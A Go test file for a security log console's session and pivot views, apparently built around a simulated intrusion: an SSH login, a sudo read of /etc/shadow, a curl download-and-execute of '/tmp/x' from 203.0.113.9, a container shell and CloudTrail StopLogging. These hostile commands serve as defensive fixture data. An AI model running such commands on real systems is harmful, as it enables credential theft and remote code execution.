package ui

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"bartizan/detect"
	"bartizan/event"
)

// joinedWorld is a world whose records were joined.
type joinedWorld struct {
	*world
	joins     map[uint64][]Join
	sessions  map[string]Session
	forgotten uint64
}

func (w *joinedWorld) Joins(e *event.Event) []Join { return w.joins[e.Seq] }
func (w *joinedWorld) Forgotten() uint64           { return w.forgotten }
func (w *joinedWorld) Session(id string) (Session, bool) {
	s, ok := w.sessions[id]
	return s, ok
}

// in adds a record of a session.
func (w *joinedWorld) in(id, format, raw string, j Join, fields ...string) *event.Event {
	e := w.add(auth, raw, event.LevelInfo, append(fields, event.FieldSession+"="+id)...)
	e.FormatName = format
	j.Session = id
	w.joins[e.Seq] = []Join{j}
	return e
}

const sshLogin, podExec = "web-2/700@1795226400", "shop/web-1/exec@a1"

// intrusion is a login that became root, an exec into a pod and a role of another
// account.
func intrusion() *joinedWorld {
	w := &joinedWorld{world: newWorld(), joins: map[uint64][]Join{}, sessions: map[string]Session{
		sshLogin: {
			ID: sshLogin, Kind: "login", Words: "login of deploy on web-2 from 203.0.113.66", User: "deploy", UID: "1009", Host: "web-2", IP: "203.0.113.66", Port: "50022",
			Key: "SHA256:n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg", Method: "publickey", Ses: "12", TTYs: []string{"pts/1"}, Began: start, Ended: start.Add(10 * time.Minute),
		},
		podExec: {ID: podExec, Kind: "exec", Words: "kubectl exec by jane@shop.example", User: "jane@shop.example", Host: "shop/web-1", Began: start},
	}}
	login := Join{Words: "login of deploy on web-2 from 203.0.113.66", How: "sshd's process or connection"}
	w.in(sshLogin, "sshd", "Nov 21 02:10:00 web-2 sshd[700]: Accepted publickey for deploy from 203.0.113.66 port 50022", login, "user.name=deploy", "source.ip=203.0.113.66", "host.name=web-2")
	w.add(auth, "Nov 21 02:10:01 web-2 sshd[701]: Failed password for root from 198.51.100.7 port 4711 ssh2", event.LevelNotice, "user.name=root", "source.ip=198.51.100.7")
	login.How = "the same user on pts/1"
	w.in(sshLogin, "sudo", "Nov 21 02:10:02 web-2 sudo[801]: deploy : TTY=pts/1 ; USER=root ; COMMAND=/bin/cat /etc/shadow", login, "user.name=deploy", "user.target.name=root", "process.command_line=/bin/cat /etc/shadow")
	w.raise("77aa01", "Shadow file read with sudo", detect.High, 61, "message", "/etc/shadow", event.Entity{Kind: event.EntityUser, Value: "deploy"})
	login.How = "audit's number of the session"
	for _, command := range []string{"curl -o /tmp/x http://203.0.113.9/x", "chmod +x /tmp/x", "/tmp/x"} {
		e := w.in(sshLogin, "auditd", "type=SYSCALL ses=12 comm="+command, login, "process.command_line="+command)
		e.LogSource.Category = "process_creation"
	}
	e := w.in(sshLogin, "auditd", "type=SYSCALL ses=12 syscall=connect 203.0.113.9 443", login, "destination.ip=203.0.113.9", "destination.port=443")
	e.LogSource.Category = "network_connection"
	doubt := Join{Words: "login of deploy on web-2 from 203.0.113.66", Doubt: "2 sessions of deploy on web-2 were open and nothing tells which"}
	w.in(sshLogin, "sudo", "Nov 21 02:10:07 web-2 sudo[802]: deploy : PWD=/ ; USER=root ; COMMAND=/bin/id", doubt, "user.name=deploy", "user.target.name=root", "process.command_line=/bin/id", event.FieldDoubt+"="+doubt.Doubt)
	alert := w.in(podExec, "falco", "Terminal shell in container (ns=shop pod=web-1)", Join{
		Words: "kubectl exec by jane@shop.example, 40s before (sh in container app from 198.51.100.7)", How: "the same pod within minutes", Behind: "jane@shop.example",
	}, "orchestrator.resource.name=web-1", "orchestrator.namespace=shop", event.FieldBehind+"=jane@shop.example")
	alert.Fields = append(alert.Fields, event.Field{Name: "rule.name", Value: event.Value{Str: "Terminal shell in container", Pos: -1, End: -1}})
	w.raise("fa1c01", "Terminal shell in container", detect.Critical, 90, "orchestrator.resource.name", "web-1")
	role := w.add(auth, `{"eventName":"StopLogging","userIdentity":{"type":"AssumedRole"}}`, event.LevelInfo, "eventName=StopLogging", "user.name=Deploy", event.FieldBehind+"=alice")
	w.joins[role.Seq] = []Join{{Words: "alice (IAM user, 111122223333) -> role Admin (222233334444) -> role Deploy (333344445555)", How: "AssumeRole", Behind: "alice"}}
	w.add(auth, `{"eventName":"AssumeRole","userIdentity":{"type":"IAMUser","userName":"alice"}}`, event.LevelInfo, "eventName=AssumeRole", "user.name=alice")
	return w
}

// joined drives a console over it.
func joined(t *testing.T, w *joinedWorld, wide, high int, keys string) *driver {
	t.Helper()
	d := newDriver(t, w.world, func(o *Options) { o.Live = w })
	d.attach(wide, high)
	d.press(keys)
	return d
}

func TestGoldenJoins(t *testing.T) {
	for _, s := range []struct{ name, keys string }{
		{"session", "2 k k k p s"},
		{"session-exec", "enter p s"},
		{"joined-alert", "enter"},
		{"joined-doubt", "2 k k k enter"},
		{"joined-role", "2 k enter"},
		{"behind", "2 k enter j j j j j enter"},
	} {
		for _, z := range sizes {
			t.Run(fmt.Sprintf("%s-%dx%d", s.name, z.w, z.h), func(t *testing.T) {
				d := joined(t, intrusion(), z.w, z.h, s.keys)
				checkShape(t, d, z.w, z.h)
				golden(t, fmt.Sprintf("testdata/%s-%dx%d.txt", s.name, z.w, z.h), d.screen())
			})
		}
	}
}

// TestSessionPage asks for what somebody did after they got in.
func TestSessionPage(t *testing.T) {
	w := intrusion()
	w.forgotten = 3
	d := joined(t, w, 160, 50, "2 k k k p s")
	screen := d.screen()
	for _, want := range []string{
		"login of deploy on web-2 from 203.0.113.66 by publickey, uid 1009, session 12, on pts/1", "10m0s", "SHA256:n4bQ",
		"2  root: /bin/cat /etc/shadow; root: /bin/id", "3  curl -o /tmp/x http://203.0.113.9/x; chmod +x /tmp/x; /tmp/x", "1  203.0.113.9 port 443", "7 records",
		"perhaps  1 record of these may be", "3 facts of older sessions are forgotten",
	} {
		if !strings.Contains(screen, want) {
			t.Errorf("the page does not show %q:\n%s", want, screen)
		}
	}
	if strings.Contains(screen, "Failed password") {
		t.Errorf("it shows what is of no session:\n%s", screen)
	}
	d.press("+")
	if !strings.Contains(d.screen(), "only known of what is in memory") {
		t.Errorf("it looks into the files for what they do not say:\n%s", d.screen())
	}
}

// TestPivotOnWhoIsBehind opens everything of a person, also what they did as a role.
func TestPivotOnWhoIsBehind(t *testing.T) {
	d := joined(t, intrusion(), 160, 50, "2 k enter j j j j j enter")
	for _, want := range []string{"StopLogging", "AssumeRole", "user alice"} {
		if !strings.Contains(d.screen(), want) {
			t.Errorf("the page of alice does not show %q:\n%s", want, d.screen())
		}
	}
}

// TestLettersOfKinds: several kinds share one key.
func TestLettersOfKinds(t *testing.T) {
	for _, k := range event.EntityKinds() {
		if l := k.Letter(); l != 0 && !slices.ContainsFunc(pivotKinds(), func(p pivotKind) bool { return p.letter == l && !p.rule }) {
			t.Errorf("no key pivots on a %s by %c", k, l)
		}
	}
	list := []event.Entity{{Kind: event.EntityUser, Value: "ana"}, {Kind: event.EntityPod, Value: "shop/web-1"}}
	if e, ok := firstOfLetter(list, 'c'); !ok || e.Value != "shop/web-1" {
		t.Errorf("c pivots on %+v", e)
	}
}

func TestSameEntity(t *testing.T) {
	for _, c := range []struct {
		a, b event.Entity
		want bool
	}{
		{event.Entity{Kind: event.EntityUser, Value: "a"}, event.Entity{Kind: event.EntityUser, Value: "a"}, true},
		{event.Entity{Kind: event.EntityUser, Value: "a"}, event.Entity{Kind: event.EntityHost, Value: "a"}, false},
		{event.Entity{Kind: event.EntityUser, Value: "a"}, event.Entity{Kind: event.EntityUser, Value: "b"}, false},
		{event.Entity{Kind: event.EntityPod, Value: "shop/web"}, event.Entity{Kind: event.EntityPod, Value: "web"}, true},
		{event.Entity{Kind: event.EntityPod, Value: "shop/web"}, event.Entity{Kind: event.EntityPod, Value: "bank/web"}, false},
		{event.Entity{Kind: event.EntityContainer, Value: "0123456789ab"}, event.Entity{Kind: event.EntityContainer, Value: "containerd://0123456789abcdef"}, true},
	} {
		if got := sameEntity(c.a, c.b); got != c.want {
			t.Errorf("%+v and %+v: %v", c.a, c.b, got)
		}
	}
}
